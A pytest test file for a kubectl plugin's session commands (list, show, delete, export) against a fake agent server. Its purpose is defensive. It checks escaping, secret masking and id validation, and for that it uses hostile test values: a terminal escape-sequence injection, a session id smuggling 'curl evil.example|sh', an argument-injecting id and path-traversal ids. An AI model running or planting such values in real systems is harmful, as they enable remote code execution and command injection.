"""sessions: list, show, delete, export."""

from __future__ import annotations

import json
from datetime import timedelta
from typing import Any

import pytest
import yaml

from kubectl_kagent import clock
from kubectl_kagent.model.resources import SERVICE
from tests.conftest import Kagent, Screen
from tests.fake.agent import SESSION, TASK, Agent, called, gave, request, row, talking, task, text
from tests.fake.cluster import FakeCluster
from tests.loopback import response, serve

WHOLE = f"/api/sessions/{SESSION}"
EVIL = "\x1b]0;owned\x07"


def sessions(kagent: Kagent, agent: Agent, *words: str) -> tuple[int, str, str]:
    return kagent("sessions", *words, f"--kagent-url={agent.url}")


def event(seconds: str, **part: Any) -> dict[str, Any]:
    data = {"content": {"parts": [part]}, "author": "x"}
    return {"created_at": f"2026-11-23T07:00:{seconds}Z", "data": json.dumps(data)}


def message(role: str, *parts: dict[str, Any], tokens: tuple[int, int] | None = None) -> dict[str, Any]:
    usage = {"promptTokenCount": tokens[0], "candidatesTokenCount": tokens[1]} if tokens else None
    metadata = {"kagent_usage_metadata": usage}
    name = json.dumps([role, parts])
    return {"kind": "message", "role": role, "messageId": name, "parts": list(parts), "metadata": metadata}


def conversation() -> dict[str, Any]:
    """Two turns: an approval in a batch with one rejected, and a failure."""
    decided = {
        "decision_type": "batch",
        "decisions": {"c1": "approve", "c2": "reject"},
        "rejection_reasons": {"c2": "not today"},
    }
    first = task(
        "completed",
        message("user", text("clean up")),
        message("user", text("clean up")),
        message("agent", text("Let me see.\nTwo things."), called("c0", "look", at="here"), tokens=(40, 2)),
        message("agent", gave("c0", "look", {"isError": True, "content": [{"text": f"no{EVIL}"}]})),
        message("agent", called("c1", "delete", name="a"), called("c2", "delete", name="b")),
        message("agent", request("c1", "delete", name="a"), request("c2", "delete", name="b")),
        message("user", {"kind": "data", "data": decided}),
        message(
            "agent", gave("c1", "delete", {"output": "gone"}), gave("c2", "delete", {"result": "rejected"})
        ),
        message("agent", text("Done."), tokens=(50, 3)),
    )
    failed = task("failed", message("user", text("again")), id_="7a5c0002")
    failed["status"]["message"] = message("agent", text("429: slow down")) | {
        "metadata": {"kagent_error_code": "API"}
    }
    first["artifacts"] = [{"parts": [text("Done.")]}]
    events = [
        event("00", text="clean up"),
        event("01", text="Let me see.\nTwo things."),
        event("01", function_call={"id": "c0", "name": "look", "args": {}}),
        event("02.5", function_response={"id": "c0", "name": "look", "response": {}}),
        event("03", function_call={"id": "c1", "name": "delete", "args": {}}),
        event("04", functionResponse={"id": "c1", "name": "delete", "response": {"status": "pending"}}),
        event("30", functionResponse={"id": "c1", "name": "delete", "response": {}}),
        event("31", text="Done."),
        {"created_at": "2026-11-23T07:00:32Z", "data": "{cut"},
    ]
    return {
        "/api/sessions": [row(SESSION)],
        WHOLE: {"session": row(SESSION), "events": events},
        f"{WHOLE}/tasks": [first, failed],
    }


WHOSE = "of user admin@kagent.dev; other users' are found with --user-id"
LISTED = [
    row(SESSION),
    row("s2", "team__NS__boss", source="agent", name=f"call {EVIL} " + "x" * 60),
    row("s3", name=None, created_at="2026-11-23T09:00:00Z", updated_at=None),
]


@pytest.mark.parametrize("words", [("show", SESSION), ("export", SESSION, "-o", "md")], ids=["show", "md"])
def test_what_a_tool_gave_is_masked_before_it_is_laid_out(kagent: Kagent, words: tuple[str, ...]) -> None:
    """Neither the name of the tool before it nor the way that line ends are shown makes it another text."""
    secret = "data:\r\n  dsn: hunter2\r\nkind: Secret\r\n"
    found = task(
        "completed",
        message("agent", gave("c1", "get_secret", {"result": secret})),
        message("agent", gave("c2", "read_db_password", {"result": "hunter2"})),
    )
    data = {
        "/api/sessions": [row(SESSION)],
        WHOLE: {"session": row(SESSION), "events": []},
        f"{WHOLE}/tasks": [found],
    }
    with talking(data=data) as agent:
        code, out, err = sessions(kagent, agent, *words)
    assert (code, err) == (0, "")
    assert "get_secret: data:" in out
    assert "dsn: [masked]" in out
    assert "read_db_password: [masked]" in out
    assert "kind: Secret" in out


def test_the_list(kagent: Kagent, cluster: FakeCluster, screen: Screen) -> None:
    with talking(data={"/api/sessions": LISTED}) as agent:
        assert sessions(kagent, agent, "list") == (
            0,
            "SESSION    AGENT   TITLE             STARTED-BY   LAST-USED   AGE\n"
            "5e551017   clock   what time is it   user         2m          59m\n"
            "s3         clock   <none>            user         <unknown>   0s\n",
            f"{WHOSE}\n",
        )
        screen("sessions", sessions(kagent, agent, "list", "-A")[1])
        code, out, _ = sessions(kagent, agent, "list", "-o", "wide", "-A")
        assert (code, out.splitlines()[0].split()[-1]) == (0, "USER")
        assert "x" * 60 in out
        assert sessions(kagent, agent, "list", "-o", "name") == (0, f"session/{SESSION}\nsession/s3\n", "")
        found = json.loads(sessions(kagent, agent, "list", "-A", "-o", "json")[1])
        assert found == {"items": LISTED}
        nobody = sessions(kagent, agent, "list", "nobody")
        assert nobody == (0, "", f"No sessions of agent nobody found in default namespace ({WHOSE}).\n")


def test_the_list_of_several_users(kagent: Kagent) -> None:
    anns = [row("s2", user_id="ann", updated_at="2026-11-23T07:59:00Z"), row("s4", user_id="ann")]
    with talking(data={"/api/sessions": [LISTED[0]]}, others={"ann": {"/api/sessions": anns}}) as agent:
        assert sessions(kagent, agent, "list", "--user-id=ann")[2] == ""
        assert sessions(kagent, agent, "list", "--user-id=ann", "--user-id=admin@kagent.dev") == (
            0,
            "SESSION    AGENT   TITLE             STARTED-BY   LAST-USED   AGE   USER\n"
            "s2         clock   what time is it   user         60s         59m   ann\n"
            "5e551017   clock   what time is it   user         2m          59m   admin@kagent.dev\n"
            "s4         clock   what time is it   user         2m          59m   ann\n",
            "",
        )


TOLD = (
    "users are those of traces in Tempo (observe/tempo:3200) of the last 7 days: "
    "who was not traced is missing\n"
)


@pytest.fixture
def asked(cluster: FakeCluster, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """A Tempo whose spans name three users; what it is asked for."""
    metadata = {"name": "tempo", "namespace": "observe", "labels": {"app.kubernetes.io/name": "tempo"}}
    service = {
        "apiVersion": "v1",
        "kind": "Service",
        "metadata": metadata,
        "spec": {"ports": [{"port": 3200}]},
    }
    cluster.add(SERVICE, service)
    paths: list[str] = []
    names = ("A2A_USER_1", "ann", "admin@kagent.dev")

    def called(_method: str, _namespace: str, _service: str, path: str, _body: Any = None) -> dict[str, Any]:
        paths.append(path)
        return {"tagValues": [{"type": "string", "value": name} for name in names]}

    monkeypatch.setattr(cluster, "called", called)
    return paths


def test_the_list_of_all_users_that_are_known(kagent: Kagent, asked: list[str]) -> None:
    anns, theirs = [row("s2", user_id="ann")], [row("s5", user_id="A2A_USER_1")]
    others = {"ann": {"/api/sessions": anns}, "A2A_USER_1": {"/api/sessions": theirs}}
    with talking(data={"/api/sessions": [LISTED[0]]}, others=others) as agent:
        code, out, err = sessions(kagent, agent, "list", "--all-users")
        assert (code, err) == (0, TOLD)
        assert [line.split()[-1] for line in out.splitlines()] == [
            *("USER", "A2A_USER_1", "ann", "admin@kagent.dev")
        ]
        assert asked == ["/api/v2/search/tag/span.kagent.user_id/values?start=1794816000&end=1795420801"]
        nobody = sessions(kagent, agent, "list", "nobody", "--all-users")
        assert nobody[2] == (
            f"{TOLD}No sessions of agent nobody found in default namespace (of users admin@kagent.dev, ann, "
            "A2A_USER_1; other users' are found with --user-id).\n"
        )


@pytest.mark.parametrize("verb", ["sessions", "approvals"])
def test_a_tenant_goes_with_all_users(kagent: Kagent, monkeypatch: pytest.MonkeyPatch, verb: str) -> None:
    """Only Tempo is asked as a tenant; one of the environment is for all verbs."""
    assert kagent(verb, "list", "--tenant=blue") == (2, "", "error: --tenant goes with --all-users\n")
    monkeypatch.setenv("KAGENT_TENANT", "blue")
    with talking(data={"/api/sessions": []}) as agent:
        assert kagent(verb, "list", f"--kagent-url={agent.url}")[0] == 0


def test_without_tempo_nobody_is_known(kagent: Kagent) -> None:
    with talking(data={"/api/sessions": [LISTED[0]]}) as agent:
        assert sessions(kagent, agent, "list", "--all-users") == (
            1,
            "",
            "error: which users there are is not known: the kagent controller has no list of them, and no "
            "Tempo is to be seen whose traces name them\nhint: name each with --user-id\n",
        )


def test_of_very_many_users_some_are_asked_for(
    kagent: Kagent, asked: list[str], cluster: FakeCluster, monkeypatch: pytest.MonkeyPatch
) -> None:
    answer = {"tagValues": [{"type": "string", "value": f"A2A_USER_{number:03}"} for number in range(150)]}
    monkeypatch.setattr(cluster, "called", lambda *_: answer)
    with talking(data={"/api/sessions": []}) as agent:
        _, _, err = sessions(kagent, agent, "list", "--all-users")
        assert len(agent.requests) == 100
    assert err.splitlines()[1:] == [
        "Warning: 151 users: only 100 are asked for; --user-id names others",
        "No sessions found in default namespace (of users admin@kagent.dev, A2A_USER_000, A2A_USER_001, "
        "A2A_USER_002, A2A_USER_003 and 95 more; other users' are found with --user-id).",
    ]


@pytest.mark.parametrize("answer", [{"tagValues": 5}, {"tagValues": [5]}])
def test_what_is_no_list_of_users(
    kagent: Kagent, asked: list[str], cluster: FakeCluster, monkeypatch: pytest.MonkeyPatch, answer: Any
) -> None:
    monkeypatch.setattr(cluster, "called", lambda *_: answer)
    with talking() as agent:
        assert sessions(kagent, agent, "list", "--all-users") == (
            1,
            "",
            "error: Tempo (observe/tempo:3200) answered with no list of an attribute's values\n",
        )


@pytest.mark.parametrize("words", [("sessions", "list"), ("chat", "clock", "hi"), ("approvals", "list")])
def test_a_user_without_a_name_is_an_unset_variable(kagent: Kagent, words: tuple[str, ...]) -> None:
    error = "error: --user-id names no user\nhint: leave it out for admin@kagent.dev\n"
    with talking() as agent:
        assert kagent(*words, "--user-id=", f"--kagent-url={agent.url}") == (2, "", error)
    assert agent.requests == []


def test_the_help_has_its_examples_as_they_are_typed(kagent: Kagent) -> None:
    helped = kagent("sessions", "delete", "--help")[1]
    assert "\n  kubectl kagent sessions list datetime-agent -o name | xargs -d '\\n' kubectl kagent" in helped


def test_a_transcript(kagent: Kagent, screen: Screen) -> None:
    with talking(data=conversation()) as agent:
        code, out, err = sessions(kagent, agent, "show", SESSION)
        assert (code, err) == (0, "")
        screen("session", out)
        assert sessions(kagent, agent, "show", f"session/{SESSION}") == (0, out, "")
        code, out, err = sessions(kagent, agent, "export", SESSION, "-o", "md")
        assert (code, err) == (0, "")
        screen("session-markdown", out)


def test_a_transcript_has_two_requests_of_one_id(kagent: Kagent) -> None:
    data = conversation()
    for entry in data[f"{WHOLE}/tasks"][0]["history"]:
        for part in entry["parts"]:
            if part.get("data", {}).get("id") == "r-c2":
                part["data"]["id"] = "r-c1"
    with talking(data=data) as agent:
        out = sessions(kagent, agent, "show", SESSION)[1]
    assert 'waits for approval of delete name="a"; approval of delete name="b"\n' in out


def test_a_transcript_has_what_a_person_was_asked_and_could_not_read(kagent: Kagent) -> None:
    data = conversation()
    (asks,) = (entry for entry in data[f"{WHOLE}/tasks"][0]["history"] if "r-c2" in entry["messageId"])
    asks["parts"][1]["data"]["args"]["originalFunctionCall"] = {"id": "c2", "name": "drop", "args": ["prod"]}
    with talking(data=data) as agent:
        out = sessions(kagent, agent, "show", SESSION)[1]
        told = json.loads(sessions(kagent, agent, "show", SESSION, "-o", "json")[1])
    raw = '{"name": "drop", "id": "c2", "args": ["prod"]}'
    assert f'waits for approval of delete name="a"; what is not understood: {raw}\n' in out
    (asked,) = (entry for entry in told["entries"] if entry["kind"] == "asked")
    assert [call["raw"] for call in asked["calls"]] == [None, json.loads(raw)]


def test_a_transcript_for_programs(kagent: Kagent) -> None:
    with talking(data=conversation()) as agent:
        told = json.loads(sessions(kagent, agent, "show", SESSION, "-o", "json")[1])
        assert told["session"] == row(SESSION)
        assert [entry["kind"] for entry in told["entries"]] == [
            *("said", "said", "call", "result", "call", "call", "asked", "decided", "result", "result"),
            *("said", "task", "said", "task", "odd"),
        ]
        assert told["entries"][3] == {
            "kind": "result",
            "id": "c0",
            "tool": "look",
            "text": f"no{EVIL}",
            "failed": True,
            "rejected": False,
            "at": "2026-11-23T07:00:02.500000+00:00",
            "seconds": 1.5,
        }
        assert [entry["rejected"] for entry in told["entries"] if entry["kind"] == "result"] == [
            *(False, False, True)
        ]
        path = "jsonpath={.entries[11].tokens.prompt}"
        assert sessions(kagent, agent, "show", SESSION, "-o", path) == (0, "90", "")


def test_a_session_without_tasks_says_where_its_events_are(kagent: Kagent) -> None:
    data = conversation() | {f"{WHOLE}/tasks": None}
    with talking(data=data) as agent:
        code, out, err = sessions(kagent, agent, "show", SESSION)
    assert (code, out.count("\n")) == (0, 2)
    assert err == (
        "Warning: the session has 9 events and no task: its agent keeps none "
        f"(kubectl kagent sessions export {SESSION} has the events)\n"
    )


def test_an_export_is_everything_as_it_came(kagent: Kagent) -> None:
    data = conversation()
    whole = {"session": row(SESSION), "events": data[WHOLE]["events"], "tasks": data[f"{WHOLE}/tasks"]}
    with talking(data=data) as agent:
        assert json.loads(sessions(kagent, agent, "export", SESSION)[1]) == whole
        assert yaml.safe_load(sessions(kagent, agent, "export", SESSION, "-o", "yaml")[1]) == whole


@pytest.mark.parametrize("verb", ["show", "export"])
def test_the_beginning_of_an_id_will_do_where_it_is_of_one_session(kagent: Kagent, verb: str) -> None:
    data = conversation()
    data["/api/sessions"] += [row("5e551018"), row("5e55"), row("other")]
    data["/api/sessions/5e55"] = {"session": row("5e55", name="short"), "events": []}
    data["/api/sessions/5e55/tasks"] = []
    with talking(data=data) as agent:
        whole = sessions(kagent, agent, verb, SESSION)
        asked = len(agent.requests)
        assert sessions(kagent, agent, verb, SESSION[:-1]) == (
            2,
            "",
            f'error: "5e55101" is the beginning of several sessions: {SESSION}, 5e551018\n',
        )
        assert '"short"' in sessions(kagent, agent, verb, "5e55", "-o", "json")[1]  # it is one itself
        del data["/api/sessions"][1]
        assert sessions(kagent, agent, verb, f"session/{SESSION[:-1]}") == whole
    assert (whole[0], asked) == (0, 2)


def test_a_session_is_not_deleted_by_the_beginning_of_its_id(kagent: Kagent) -> None:
    with talking(data=conversation()) as agent:
        code, out, err = sessions(kagent, agent, "delete", SESSION[:-1])
        assert (code, out, err) == (1, "", gone("delete", SESSION[:-1]))
        assert [one.method for one in agent.requests] == ["GET"]


def test_deleting(kagent: Kagent) -> None:
    with talking(data={WHOLE: {"session": row(SESSION)}, "/api/sessions/s2": {}}) as agent:
        dry = sessions(kagent, agent, "delete", SESSION, "--dry-run=client")
        assert dry == (0, f"session/{SESSION} deleted (dry run)\n", "")
        done = sessions(kagent, agent, "delete", f"session/{SESSION}", "s2")
        assert done == (0, f"session/{SESSION} deleted\nsession/s2 deleted\n", "")
        assert agent.data == {}


def gone(verb: str, id_: str = SESSION) -> str:
    whole = "an id has to be whole: " if verb == "delete" else ""
    return (
        f'Error from server (NotFound): session "{id_}" not found\n'
        f"hint: {whole}kubectl kagent sessions list -A shows those of the user; "
        "another user's are found with --user-id\n"
    )


@pytest.mark.parametrize("missing", [(WHOLE,), (f"{WHOLE}/tasks",)])
@pytest.mark.parametrize("verb", ["show", "export"])
def test_a_session_that_was_made_a_moment_ago_is_looked_for_again(
    kagent: Kagent, cluster: FakeCluster, monkeypatch: pytest.MonkeyPatch, verb: str, missing: tuple[str, ...]
) -> None:
    """kagent 0.9.0 answers 404 at first."""
    with talking(data=conversation()) as agent:
        whole = sessions(kagent, agent, verb, SESSION)
        late = {path: agent.data.pop(path) for path in missing}
        monkeypatch.setattr(
            clock, "sleep", lambda seconds: agent.data.update(late) if seconds > 0.5 else None
        )
        assert sessions(kagent, agent, verb, SESSION) == whole
    assert whole[0] == 0


@pytest.mark.parametrize("words", [["show"], ["export"], ["delete"], ["delete", "--dry-run=client"]])
def test_a_session_that_is_not_there(kagent: Kagent, cluster: FakeCluster, words: list[str]) -> None:
    begun = cluster.clock()
    with talking() as agent:
        assert sessions(kagent, agent, *words, SESSION) == (1, "", gone(words[0]))
    assert cluster.clock() - begun <= timedelta(seconds=1)


@pytest.mark.parametrize("word", ["session/", "a/b", "session/../x"])
def test_what_is_no_session(kagent: Kagent, word: str) -> None:
    with talking() as agent:
        code, out, err = sessions(kagent, agent, "show", word)
    assert (code, out, err.splitlines()[0]) == (2, "", f'error: "{word}" is not a session')


@pytest.mark.parametrize(
    "found", [None, [], {}, {"session": None}, {"session": {"id": 5}}, {"session": row("x"), "events": 5}]
)
def test_a_session_that_is_none_is_an_error(kagent: Kagent, found: Any) -> None:
    with talking(data={WHOLE: found, f"{WHOLE}/tasks": []}) as agent:
        code, out, err = sessions(kagent, agent, "show", SESSION)
    assert (code, out) == (1, "")
    assert err.startswith("error: the kagent controller")


@pytest.mark.parametrize(
    "tasks", [[{}], [{"kind": "task", "history": 5}], [{"status": []}], [{"history": [5]}]]
)
def test_tasks_that_are_none_are_marked(kagent: Kagent, tasks: list[Any]) -> None:
    data = {WHOLE: {"session": row(SESSION), "events": []}, f"{WHOLE}/tasks": tasks}
    with talking(data=data) as agent:
        code, out, _ = sessions(kagent, agent, "show", SESSION)
    assert code == 0
    assert "not understood" in out or " unknown " in out


def test_task_ids_are_told(kagent: Kagent) -> None:
    with talking(data=conversation()) as agent:
        out = sessions(kagent, agent, "show", SESSION)[1]
    assert f"task {TASK} completed (90 prompt and 5 output tokens)" in out


def test_ids_that_xargs_would_take_apart_are_left_out_of_o_name(kagent: Kagent) -> None:
    odd = ["s1 --kagent-url=http://elsewhere", "-h", "a'b", "a\nb", "", "..", "good"]
    with talking(data={"/api/sessions": [row(id_) for id_ in odd if id_]}) as agent:
        assert sessions(kagent, agent, "list", "-A", "-o", "name") == (
            0,
            "session/good\n",
            "Warning: left out 5 of 6 ids that are not one plain word; -o json shows all\n",
        )


def test_the_help_shows_how_to_delete_what_is_listed(kagent: Kagent) -> None:
    listed = "kubectl kagent sessions list datetime-agent -o name"
    example = rf"  {listed} | xargs -d '\n' kubectl kagent sessions delete --"
    assert f"{example}\n" in kagent("sessions", "delete", "-h")[1]


def test_the_command_that_a_hint_gives_is_one_command_whatever_the_id_is(kagent: Kagent) -> None:
    evil = "s;curl evil.example|sh"
    data = {WHOLE: {"session": row(evil), "events": [event("00", text="hello")]}, f"{WHOLE}/tasks": None}
    with talking(data=data) as agent:
        err = sessions(kagent, agent, "show", SESSION)[2]
    assert err.endswith(f"(kubectl kagent sessions export '{evil}' has the events)\n")


def test_an_id_that_would_lead_elsewhere_is_refused(kagent: Kagent) -> None:
    with talking() as agent:
        assert sessions(kagent, agent, "delete", "..") == (
            1,
            "",
            'Error from server (NotFound): session ".." not found\n'
            "hint: an id has to be whole: kubectl kagent sessions list -A shows those of the user; "
            "another user's are found with --user-id\n",
        )
        assert agent.requests == []


def test_a_delete_whose_answer_is_lost_may_have_been_carried_out(kagent: Kagent) -> None:
    with serve() as server:
        server.answer = lambda asked: (
            b"" if asked.method == "DELETE" else response(200, {"error": False, "data": {}})
        )
        code, out, err = kagent("sessions", "delete", SESSION, f"--kagent-url={server.url}")
    assert (code, out) == (5, "")
    assert err.endswith(
        f": whether session {SESSION} was deleted is not known\n"
        f"hint: kubectl kagent sessions show {SESSION} shows it\n"
    )
